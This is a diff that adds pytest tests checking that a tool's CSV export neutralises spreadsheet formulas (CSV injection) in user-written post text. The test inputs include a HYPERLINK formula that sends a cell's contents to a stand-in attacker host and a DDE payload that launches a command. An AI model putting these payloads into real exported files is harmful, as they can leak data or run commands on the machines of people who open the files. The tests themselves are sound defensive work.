@@ -192,3 +192,55 @@ def test_exported_json_lines_are_one_line_each_whatever_a_value_holds(store: Sto
     assert export(store, "credits", out, fmt="jsonl") == 4
     rows = [json.loads(line) for line in out.getvalue().splitlines()]
     assert len(rows) == 4 and rows[0]["raw"] == "Photo:\u2028Reuters\x85"
+
+
+# Post text is written by anyone: a cell a spreadsheet would run as a formula (OWASP "CSV injection").
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@river_desk thanks",
+            "\tindented", "\rreturn", "Water on Mill Lane\r=1+1"]
+
+
+def _post_with_text(store: Store, text: str) -> None:
+    from tests.corpusdb import ALIVE
+
+    store.db["posts"].update(store.post_row("twitter", ALIVE)["id"], {"text": text})
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return",
+                                                 "carriage-return-inside"])
+def test_csv_export_writes_a_formula_as_text(store: Store, text: str) -> None:
+    _post_with_text(store, text)
+    out = io.StringIO()
+    export(store, "posts", out, fmt="csv")
+    cells = [r["text"] for r in csv.DictReader(io.StringIO(out.getvalue(), newline=""))]
+    assert len(cells) == 6   # one row per post: a carriage return inside a text is quoted, not a new row
+    assert ("'" + text in cells and text not in cells) if text.startswith(("=", "+", "-", "@", "\t", "\r")) \
+        else text in cells
+    raw = io.StringIO()
+    export(store, "posts", raw, fmt="csv", raw=True)
+    assert text in [r["text"] for r in csv.DictReader(io.StringIO(raw.getvalue(), newline=""))]
+    lines = io.StringIO()
+    export(store, "posts", lines, fmt="jsonl")
+    assert text in [json.loads(line)["text"] for line in lines.getvalue().splitlines()]
+
+
+def test_csv_export_keeps_numbers_and_empty_cells_as_they_are(store: Store) -> None:
+    """Only text is neutralised: a negative number is a number (a spreadsheet reads it as one, not as a formula)."""
+    store.db["figures"].insert({"n": -1, "f": -2.5, "s": "-3", "e": "", "z": None, "b": b"\xfb\xef"})
+    out = io.StringIO()
+    export(store, "figures", out, fmt="csv")
+    assert out.getvalue().splitlines()[1] == "-1,-2.5,'-3,,,'++8="
+
+
+def test_cache_export_raw_from_the_command_line(store: Store, tmp_path: Path) -> None:
+    from click.testing import CliRunner
+
+    from resolver.cli import cli
+
+    _post_with_text(store, "=1+1")
+    store.close()
+    base = ["--db", str(tmp_path / "corpus.db"), "cache", "export", "posts"]
+    safe, raw = CliRunner().invoke(cli, base), CliRunner().invoke(cli, [*base, "--raw"])
+    assert safe.exit_code == raw.exit_code == 0, safe.output + raw.output
+    assert "'=1+1" in [r["text"] for r in csv.DictReader(io.StringIO(safe.stdout))]
+    assert "=1+1" in [r["text"] for r in csv.DictReader(io.StringIO(raw.stdout))]
+    assert "--raw" in CliRunner().invoke(cli, ["cache", "export", "--help"]).output
